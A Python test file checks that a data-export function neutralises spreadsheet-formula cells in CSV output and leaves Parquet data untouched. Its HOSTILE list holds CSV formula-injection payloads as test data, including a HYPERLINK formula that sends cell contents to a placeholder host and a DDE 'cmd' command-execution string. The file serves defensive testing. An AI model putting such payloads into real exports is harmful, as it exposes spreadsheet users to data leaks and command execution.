"""CSV written for people neutralises text cells a spreadsheet would evaluate (FORMATS.md,
"Exports"; OWASP's rule); numbers and Parquet are left as they are."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from catenary.measurement.samples import export_table

HOSTILE = (
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-x",
    "\tM01",
    "\rM02",
)
SCHEMA = pa.schema([("mast", pa.string()), ("stagger_mm", pa.float64()), ("note", pa.string())])


def _table() -> pa.Table:
    names = [*HOSTILE, "12/01", None]
    staggers = [-12.5] * len(HOSTILE) + [200.0, -0.25]
    notes = ["ok"] * (len(names) - 1) + ["a = b"]
    return pa.Table.from_pydict({"mast": names, "stagger_mm": staggers, "note": notes}, SCHEMA)


def test_text_cells_a_spreadsheet_would_evaluate_are_neutralised(tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    assert export_table(iter([_table()]), SCHEMA, out) == len(HOSTILE) + 2
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["mast"] for r in rows] == [*("'" + h for h in HOSTILE), "12/01", ""]
    assert [float(r["stagger_mm"]) for r in rows] == [-12.5] * len(HOSTILE) + [200.0, -0.25]
    assert rows[-1]["note"] == "a = b"


def test_parquet_keeps_the_text_as_it_is(tmp_path: Path) -> None:
    out = tmp_path / "t.parquet"
    export_table(iter([_table()]), SCHEMA, out)
    assert pq.read_table(out).equals(_table())
